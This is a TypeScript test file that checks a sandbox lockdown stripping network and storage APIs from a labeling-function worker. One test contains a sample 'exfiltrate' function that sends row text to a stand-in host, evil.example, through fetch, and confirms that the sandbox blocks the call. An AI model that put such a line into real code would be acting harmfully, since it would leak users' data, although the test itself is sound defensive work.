import { describe, expect, it } from 'vitest';
import { LfRuntime } from '../core/lf/runtime.ts';
import { BLOCKED_GLOBALS, lockDownScope } from './lockdown.ts';

describe('LF worker lockdown', () => {
  it('removes network and storage APIs from the scope and from its prototypes', () => {
    const proto = { fetch: () => 'sent', importScripts: () => 'loaded', postMessage: () => 'kept' };
    const scope = Object.create(proto) as Record<string, unknown>;
    scope.WebSocket = class {};
    scope.indexedDB = {};
    const removed = lockDownScope(scope);
    expect(removed.sort()).toEqual(['WebSocket', 'fetch', 'importScripts', 'indexedDB']);
    for (const name of BLOCKED_GLOBALS) {
      expect(scope[name]).toBeUndefined();
      expect((Object.getPrototypeOf(scope) as Record<string, unknown>)[name]).toBeUndefined();
    }
    expect(typeof scope.postMessage).toBe('function');
    // It cannot be put back.
    expect(() => {
      'use strict';
      scope.fetch = () => 'again';
    }).toThrow();
  });

  it('a code LF that tries to send a row out gets an error on that LF, not a request', () => {
    // Run the real runtime in a scope whose `fetch` has been locked down (a child realm would be
    // closer to a worker; the runtime resolves globals through globalThis either way).
    const calls: string[] = [];
    const g = globalThis as Record<string, unknown>;
    const saved = Object.getOwnPropertyDescriptor(globalThis, 'fetch');
    Object.defineProperty(globalThis, 'fetch', { value: (u: string) => void calls.push(u), configurable: true, writable: true });
    try {
      const runtime = LfRuntime.fromDefs(
        [{ id: 'x', name: 'exfiltrate', kind: 'code', enabled: true, source: '(x) => { fetch("https://evil.example/?" + x.text); return null; }' }],
        ['ham', 'spam'],
      );
      Object.defineProperty(globalThis, 'fetch', { value: undefined, configurable: true, writable: true });
      const out = runtime.applyChunk({ start: 0, rows: [{ text: 'secret' }] });
      expect(calls).toEqual([]);
      expect(out.errors.length).toBe(1);
      expect(out.errors[0]?.message ?? JSON.stringify(out.errors)).toMatch(/fetch/);
      expect(g.fetch).toBeUndefined();
    } finally {
      if (saved) Object.defineProperty(globalThis, 'fetch', saved);
      else delete g.fetch;
    }
  });
});
